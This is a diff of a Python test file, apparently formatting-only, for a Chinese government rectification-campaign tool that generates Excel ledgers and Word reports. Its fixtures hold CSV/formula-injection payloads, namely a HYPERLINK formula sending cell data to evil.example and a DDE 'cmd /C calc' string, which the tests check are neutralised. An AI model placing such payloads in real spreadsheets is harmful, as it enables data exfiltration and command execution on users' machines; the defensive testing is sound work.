@@ -41,7 +41,11 @@ KEY = "r1"
 TITLE = "2023年持续深化作风整顿优化营商环境专项行动"
 OFFICE = Actor("王主任", "leading_group_office", "discipline_commission")
 SUPERVISION = Actor("孙组长", "supervision_team", "organization_department")
-HOUSING_UNIT, SERVICE_UNIT, COMMERCE_UNIT = "housing_construction_bureau", "government_service_center", "commerce_bureau"
+HOUSING_UNIT, SERVICE_UNIT, COMMERCE_UNIT = (
+    "housing_construction_bureau",
+    "government_service_center",
+    "commerce_bureau",
+)
 HOUSING = Actor("李科长", "responsible", HOUSING_UNIT)
 SERVICE = Actor("陈主任", "responsible", SERVICE_UNIT)
 COMMERCE = Actor("周科长", "responsible", COMMERCE_UNIT)
@@ -51,8 +55,18 @@ HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'
 HOSTILE_DESCRIPTION = "+cmd|' /C calc'!A0 审批超时"
 HOSTILE_OFFICIAL = "@钱副县长"
 HOSTILE_MEASURE = "-1+1 先行整改"
-HEAVY = ("sqlalchemy", "sqlmodel", "alembic", "transitions", "pydantic", "xlsxwriter", "openpyxl", "docx",
-         "matplotlib", "jinja2")
+HEAVY = (
+    "sqlalchemy",
+    "sqlmodel",
+    "alembic",
+    "transitions",
+    "pydantic",
+    "xlsxwriter",
+    "openpyxl",
+    "docx",
+    "matplotlib",
+    "jinja2",
+)
 
 
 def at(text: str) -> dt.datetime:
@@ -73,21 +87,53 @@ def _play(db: Path) -> Played:
     engine = Engine(db, clock=clock, reporter_keys=ReporterKeys.generate())
     engine.start_campaign(items_only(load_setup("county_2023")), key=KEY)
     report = engine.report
-    permit = report(KEY, OFFICE, title=HOSTILE_TITLE, description=HOSTILE_DESCRIPTION, track="construction",
-                    channel="hotline", severity="serious",
-                    reporter=Reporter(name=REPORTER_NAME, phone=REPORTER_PHONE, contact=REPORTER_CONTACT))
-    late = report(KEY, OFFICE, title="竣工验收久拖不决", description="某安置房项目竣工验收拖延三个月。",
-                  track="construction", channel="department_referral")
-    window = report(KEY, SUPERVISION, title="政务服务中心窗口一次性告知不落实",
-                    description="明察暗访发现: 不动产登记窗口未一次性告知所需材料。",
-                    track="government_services", channel="undercover_check")
-    pending = report(KEY, OFFICE, title="某企业反映用电报装慢", description="座谈会上企业反映用电报装流程繁琐。",
-                     track="factor_supply", channel="forum")
-    untrue = report(KEY, OFFICE, title="反映某站所索要好处费", description="经核查不属实。",
-                    track="obstruction", channel="liaison_card")
+    permit = report(
+        KEY,
+        OFFICE,
+        title=HOSTILE_TITLE,
+        description=HOSTILE_DESCRIPTION,
+        track="construction",
+        channel="hotline",
+        severity="serious",
+        reporter=Reporter(name=REPORTER_NAME, phone=REPORTER_PHONE, contact=REPORTER_CONTACT),
+    )
+    late = report(
+        KEY,
+        OFFICE,
+        title="竣工验收久拖不决",
+        description="某安置房项目竣工验收拖延三个月。",
+        track="construction",
+        channel="department_referral",
+    )
+    window = report(
+        KEY,
+        SUPERVISION,
+        title="政务服务中心窗口一次性告知不落实",
+        description="明察暗访发现: 不动产登记窗口未一次性告知所需材料。",
+        track="government_services",
+        channel="undercover_check",
+    )
+    pending = report(
+        KEY,
+        OFFICE,
+        title="某企业反映用电报装慢",
+        description="座谈会上企业反映用电报装流程繁琐。",
+        track="factor_supply",
+        channel="forum",
+    )
+    untrue = report(
+        KEY,
+        OFFICE,
+        title="反映某站所索要好处费",
+        description="经核查不属实。",
+        track="obstruction",
+        channel="liaison_card",
+    )
 
     clock.set(at("2023-07-04 09:00"))
-    engine.assign(permit.id, OFFICE, unit=HOUSING_UNIT, due=dt.date(2023, 8, 15), leading_official=HOSTILE_OFFICIAL)
+    engine.assign(
+        permit.id, OFFICE, unit=HOUSING_UNIT, due=dt.date(2023, 8, 15), leading_official=HOSTILE_OFFICIAL
+    )
     engine.assign(late.id, OFFICE, unit=HOUSING_UNIT, due=dt.date(2023, 7, 20), leading_official="钱副县长")
     engine.assign(window.id, OFFICE, unit=SERVICE_UNIT, due=dt.date(2023, 8, 23))
     m1 = engine.add_measure(permit.id, HOUSING, text=HOSTILE_MEASURE, due=dt.date(2023, 7, 14))
@@ -145,8 +191,11 @@ def _sheet_rows(path: Path, sheet: str) -> list[tuple[Any, ...]]:
 
 def _xml_parts(path: Path) -> dict[str, str]:
     with zipfile.ZipFile(path) as archive:
-        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
-                if name.endswith((".xml", ".rels"))}
+        return {
+            name: archive.read(name).decode("utf-8", "replace")
+            for name in archive.namelist()
+            if name.endswith((".xml", ".rels"))
+        }
 
 
 # ------------------------------------------------------------------------------- the played campaign
@@ -164,15 +213,33 @@ def test_the_played_campaign_has_what_the_reports_need(played: Played) -> None:
 # ------------------------------------------------------------------------------------------ ledger
 
 
-def test_ledger_has_one_row_per_item_with_the_engines_values(played: Played, written: dict[str, list[Path]]) -> None:
+def test_ledger_has_one_row_per_item_with_the_engines_values(
+    played: Played, written: dict[str, list[Path]]
+) -> None:
     (path,) = written["ledger"]
     assert path.name == f"{TITLE}-整改台账.xlsx" == ledger_name(TITLE)
     rows = _sheet_rows(path, "整改台账")
     assert rows[0][0] == f"{TITLE}整改台账"
     assert rows[1][0] == "XX县  截至 2023年8月21日  共 5 个问题"
     assert rows[2] == tuple(c.heading for c in COLUMNS)
-    assert rows[2] == ("序号", "问题编号", "问题标题", "问题描述", "所属领域", "来源渠道", "问题程度", "责任单位",
-                       "牵头领导", "整改措施", "整改时限", "状态", "预警", "督办等级", "销号日期", "回头看次数")
+    assert rows[2] == (
+        "序号",
+        "问题编号",
+        "问题标题",
+        "问题描述",
+        "所属领域",
+        "来源渠道",
+        "问题程度",
+        "责任单位",
+        "牵头领导",
+        "整改措施",
+        "整改时限",
+        "状态",
+        "预警",
+        "督办等级",
+        "销号日期",
+        "回头看次数",
+    )
     ledger = played.engine.ledger(KEY)
     data = rows[3:]
     assert len(data) == len(ledger) == 5
@@ -192,7 +259,9 @@ def test_ledger_has_one_row_per_item_with_the_engines_values(played: Played, wri
         assert cells["整改时限"] == (format_due(item.due) if item.due else None)
         assert len(str(cells["整改措施"]).splitlines()) == max(1, len(entry.measures))
 
-    by_id = {played.engine.item_by_number(KEY, row[1]).id: dict(zip(rows[2], row, strict=True)) for row in data}
+    by_id = {
+        played.engine.item_by_number(KEY, row[1]).id: dict(zip(rows[2], row, strict=True)) for row in data
+    }
     permit, late = by_id[played.items["permit"].id], by_id[played.items["late"].id]
     assert permit["整改时限"] == "2023-08-15 (周二)"
     assert permit["来源渠道"] == "公开举报电话" and permit["问题程度"] == "较重"
@@ -251,7 +320,9 @@ def test_ledger_neutralises_hostile_cells(written: dict[str, list[Path]], played
     (path,) = written["ledger"]
     book = openpyxl.load_workbook(path)
     sheet = book["整改台账"]
-    row = next(r for r in range(4, sheet.max_row + 1) if sheet.cell(r, 2).value == played.items["permit"].number)
+    row = next(
+        r for r in range(4, sheet.max_row + 1) if sheet.cell(r, 2).value == played.items["permit"].number
+    )
     title, description, official = sheet.cell(row, 3), sheet.cell(row, 4), sheet.cell(row, 9)
     assert title.value == "'" + HOSTILE_TITLE and title.data_type == "s" and title.hyperlink is None
     assert description.value == "'" + HOSTILE_DESCRIPTION
@@ -282,7 +353,9 @@ def test_ledger_for_one_unit_or_track(played: Played, tmp_path: Path) -> None:
 def test_a_pack_for_every_unit_with_items(written: dict[str, list[Path]]) -> None:
     names = sorted(p.relative_to(p.parent.parent).as_posix() for p in written["unit-pack"])
     assert names == sorted(
-        f"{FOLDER}/{unit}-{kind}" for unit in ("县住建局", "县政务服务中心") for kind in ("自查报告.docx", "一报告四清单.xlsx")
+        f"{FOLDER}/{unit}-{kind}"
+        for unit in ("县住建局", "县政务服务中心")
+        for kind in ("自查报告.docx", "一报告四清单.xlsx")
     )
 
 
@@ -291,7 +364,7 @@ def _pack(written: dict[str, list[Path]], unit: str, suffix: str) -> Path:
 
 
 def test_self_inspection_report_has_the_four_parts_and_the_engines_numbers(
-    played: Played, written: dict[str, list[Path]],
+    played: Played, written: dict[str, list[Path]]
 ) -> None:
     path = _pack(written, "县住建局", "自查报告.docx")
     document = docx.Document(str(path))
@@ -302,23 +375,33 @@ def test_self_inspection_report_has_the_four_parts_and_the_engines_numbers(
     text = "\n".join(t for _, t in paragraphs)
     progress = played.engine.progress(KEY, unit=HOUSING_UNIT)
     assert (progress.total, progress.closed, progress.open, progress.overdue) == (2, 1, 1, 1)
-    assert (f"截至2023年8月21日，本单位共承担整改问题{progress.total}个，已办结{progress.closed}个"
-            f"（其中已销号1个），正在整改{progress.open}个（其中整改中1个），逾期未完成{progress.overdue}个。") in text
+    assert (
+        f"截至2023年8月21日，本单位共承担整改问题{progress.total}个，已办结{progress.closed}个"
+        f"（其中已销号1个），正在整改{progress.open}个（其中整改中1个），逾期未完成{progress.overdue}个。"
+    ) in text
     assert "在办问题预警情况：绿灯0个、黄灯0个、红灯1个。" in text
     assert "按期销号1个，逾期销号0个；挂牌督办1个；“回头看”重新整改0个。" in text
     assert "按专项分：工程领域专项整治2个。" in text
     # 二、存在的问题: one paragraph per problem, with title, description and state
-    section = text[text.index("二、存在的问题"):text.index("三、整改措施")]
+    section = text[text.index("二、存在的问题") : text.index("三、整改措施")]
     problems = [line for line in section.splitlines()[1:] if line]
     assert len(problems) == 2
-    assert problems[0].startswith(f"（一）{HOSTILE_TITLE}。{HOSTILE_DESCRIPTION}。（问题编号{played.items['permit'].number}；")
+    assert problems[0].startswith(
+        f"（一）{HOSTILE_TITLE}。{HOSTILE_DESCRIPTION}。（问题编号{played.items['permit'].number}；"
+    )
     assert "当前状态：已销号，整改时限2023年8月15日（周二）。）" in problems[0]
-    assert problems[1].startswith("（二）竣工验收久拖不决。某安置房项目竣工验收拖延三个月。") and "当前状态：整改中" in problems[1]
-    section = text[text.index("三、整改措施"):text.index("四、下一步工作")]
+    assert (
+        problems[1].startswith("（二）竣工验收久拖不决。某安置房项目竣工验收拖延三个月。")
+        and "当前状态：整改中" in problems[1]
+    )
+    section = text[text.index("三、整改措施") : text.index("四、下一步工作")]
     assert "（二）针对“竣工验收久拖不决”问题：1. 倒排工期, 月底前完成验收【未完成】。" in section
-    section = text[text.index("四、下一步工作"):]
+    section = text[text.index("四、下一步工作") :]
     assert "对尚未办结的1个问题" in section and "其中已逾期的1个问题" in section
-    assert paragraphs[-2:] == [("Normal", "县住建局"), ("Normal", "二〇二三年八月二十一日")]  # 成文日期 in Chinese numerals
+    assert paragraphs[-2:] == [
+        ("Normal", "县住建局"),
+        ("Normal", "二〇二三年八月二十一日"),
+    ]  # 成文日期 in Chinese numerals
     # the numbered lead of each problem is a 楷体 run
     lead = next(p for p in document.paragraphs if p.text.startswith("（二）竣工"))
     rpr = lead.runs[0]._element.rPr
@@ -339,10 +422,14 @@ def test_self_inspection_report_sets_the_east_asian_fonts(written: dict[str, lis
     styles_xml = _xml_parts(path)["word/styles.xml"]
     assert "eastAsiaTheme" not in styles_xml
     assert document.core_properties.title == f"县政务服务中心关于{TITLE}的自查报告"
-    assert document.core_properties.created == dt.datetime(2023, 8, 21, 1, 0, tzinfo=dt.UTC)  # the engine's clock
+    assert document.core_properties.created == dt.datetime(
+        2023, 8, 21, 1, 0, tzinfo=dt.UTC
+    )  # the engine's clock
 
 
-def test_four_lists_have_the_officials_columns_and_one_numbering(played: Played, written: dict[str, list[Path]]) -> None:
+def test_four_lists_have_the_officials_columns_and_one_numbering(
+    played: Played, written: dict[str, list[Path]]
+) -> None:
     path = _pack(written, "县住建局", "一报告四清单.xlsx")
     book = openpyxl.load_workbook(path)
     assert book.sheetnames == ["问题清单", "责任清单", "措施清单", "时间清单"]
@@ -357,18 +444,25 @@ def test_four_lists_have_the_officials_columns_and_one_numbering(played: Played,
         sheet = book[name]
         rows = [tuple(r) for r in sheet.iter_rows(values_only=True)]
         assert rows[0][0] == f"县住建局{name}"
-        assert rows[1][0] == f"{TITLE}  填报单位：县住建局  填报人：李科长  填报日期：2023年8月21日  共 2 个问题"
+        assert (
+            rows[1][0] == f"{TITLE}  填报单位：县住建局  填报人：李科长  填报日期：2023年8月21日  共 2 个问题"
+        )
         assert rows[2] == header
         titles = [r[header.index("问题名称")] for r in rows[3:]]
         assert [(r[0], t) for r, t in zip(rows[3:], titles, strict=True)] == [
-            (n, cell_text(i.title)) for n, i in enumerate(unit_items, 1)]
+            (n, cell_text(i.title)) for n, i in enumerate(unit_items, 1)
+        ]
         assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == f"A3:{chr(64 + len(header))}5"
         assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$3:$3"
     problems = _sheet_rows(path, "问题清单")[3:]
     assert problems[0][1] == played.items["permit"].number
     assert problems[0][3:] == ("'" + HOSTILE_DESCRIPTION, "工程领域专项整治", "公开举报电话", "较重")
     duties = _sheet_rows(path, "责任清单")[3:]
-    assert duties[0][2:] == ("县住建局", "'" + HOSTILE_OFFICIAL, "李科长")  # who added and completed the measures
+    assert duties[0][2:] == (
+        "县住建局",
+        "'" + HOSTILE_OFFICIAL,
+        "李科长",
+    )  # who added and completed the measures
     assert duties[1][2:] == ("县住建局", "钱副县长", "李科长")
     measures = _sheet_rows(path, "措施清单")[3:]
     assert measures[0][3] == "措施已完成 2/2 项\n问题已销号 (2023-07-14)"
@@ -388,8 +482,20 @@ def test_unit_pack_for_one_unit_even_without_items(played: Played, tmp_path: Pat
 
 def test_chinese_numbers() -> None:
     assert [chinese_number(n) for n in (1, 9, 10, 11, 20, 21, 99, 100, 101, 110, 305, 1000, 1001, 2019)] == [
-        "一", "九", "十", "十一", "二十", "二十一", "九十九", "一百", "一百零一", "一百一十", "三百零五", "一千",
-        "一千零一", "二千零一十九",
+        "一",
+        "九",
+        "十",
+        "十一",
+        "二十",
+        "二十一",
+        "九十九",
+        "一百",
+        "一百零一",
+        "一百一十",
+        "三百零五",
+        "一千",
+        "一千零一",
+        "二千零一十九",
     ]
 
 
@@ -409,7 +515,9 @@ def test_no_reporter_anywhere_in_any_report(played: Played, tmp_path: Path) -> N
     """Not the reporter's name, phone or contact, in any part of any file ``report all`` writes."""
     files = write_reports(played.engine, KEY, "all", tmp_path)
     assert {p.suffix for p in files} >= {".xlsx", ".docx", ".html", ".md"}
-    assert played.engine.read_reporter(played.items["permit"].id, Actor("保管员", "custodian", "discipline_commission"))
+    assert played.engine.read_reporter(
+        played.items["permit"].id, Actor("保管员", "custodian", "discipline_commission")
+    )
     checked = 0
     for name, text in _every_text(tmp_path):
         for secret in (REPORTER_NAME, REPORTER_PHONE, REPORTER_CONTACT, "幸福路"):
@@ -442,7 +550,7 @@ def test_write_reports_checks_everything_before_writing(played: Played, tmp_path
 
 
 def test_write_reports_leaves_nothing_half_written(
-    played: Played, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+    played: Played, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """A writer failing after others wrote: no file of this run is left, and old files stay."""
     from zhenggai.adapters.reports import unit_pack
@@ -464,7 +572,9 @@ def test_write_reports_leaves_nothing_half_written(
     assert not fresh.exists()  # the folders it made for nothing are gone too
 
 
-def test_write_reports_all_for_one_unit_skips_the_whole_campaign_kinds(played: Played, tmp_path: Path) -> None:
+def test_write_reports_all_for_one_unit_skips_the_whole_campaign_kinds(
+    played: Played, tmp_path: Path
+) -> None:
     files = write_reports(played.engine, KEY, "all", tmp_path, unit=SERVICE_UNIT)
     names = [p.name for p in files]
     assert f"{TITLE}-县政务服务中心-整改台账.xlsx" in names
@@ -501,7 +611,9 @@ def cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> 
     return run
 
 
-def test_cli_report_writes_and_lists_the_files(played: Played, cli: Callable[..., Run], tmp_path: Path) -> None:
+def test_cli_report_writes_and_lists_the_files(
+    played: Played, cli: Callable[..., Run], tmp_path: Path
+) -> None:
     out = tmp_path / "报告"
     result = cli("--db", str(played.db), "report", "ledger", "--campaign", KEY, "--out", str(out))
     assert result.code == 0, result.err
@@ -511,7 +623,9 @@ def test_cli_report_writes_and_lists_the_files(played: Played, cli: Callable[...
     rows = _sheet_rows(out / ledger_name(TITLE), "整改台账")
     assert len(rows) == 3 + 5 and rows[2][0] == "序号"
 
-    result = cli("--db", str(played.db), "report", "unit-pack", "--unit", HOUSING_UNIT, "--out", str(out), "--json")
+    result = cli(
+        "--db", str(played.db), "report", "unit-pack", "--unit", HOUSING_UNIT, "--out", str(out), "--json"
+    )
     assert result.code == 0, result.err
     import json
 
@@ -531,7 +645,7 @@ def test_cli_report_writes_and_lists_the_files(played: Played, cli: Callable[...
     ],
 )
 def test_cli_report_refusals_write_nothing(
-    played: Played, cli: Callable[..., Run], tmp_path: Path, args: list[str], message: str,
+    played: Played, cli: Callable[..., Run], tmp_path: Path, args: list[str], message: str
 ) -> None:
     out = tmp_path / "out"
     result = cli("--db", str(played.db), "report", *args, "--out", str(out))
@@ -560,7 +674,9 @@ with contextlib.redirect_stdout(buffer):
 assert "一报告四清单" in buffer.getvalue() and "--reports" in buffer.getvalue(), buffer.getvalue()
 print(sorted(m for m in sys.modules if m.split(".")[0] in {HEAVY!r}))
 """
-    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=60)
+    proc = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=60
+    )
     assert proc.returncode == 0, proc.stderr
     assert proc.stdout.strip() == "[]"
 
@@ -637,7 +753,9 @@ def _the_mid_bulletin_reads_as_a_document(mid: Path, tmp_path: Path) -> None:
         assert re.fullmatch(rf"\s*—\s*{number}\s*—\s*", last), (number, last)
     raw = "\f".join(texts)
     text = re.sub(r"[ \t]+", "", raw)
-    assert text.index(ISSUER) < text.index("第") < text.index("各成员单位：") < text.index("五、各责任单位进展")
+    assert (
+        text.index(ISSUER) < text.index("第") < text.index("各成员单位：") < text.index("五、各责任单位进展")
+    )
     flat = text.replace("\n", "")
     overdue = re.search(r"其中逾期未办结(\d+)件", flat)
     assert overdue is not None and int(overdue.group(1)) > 0
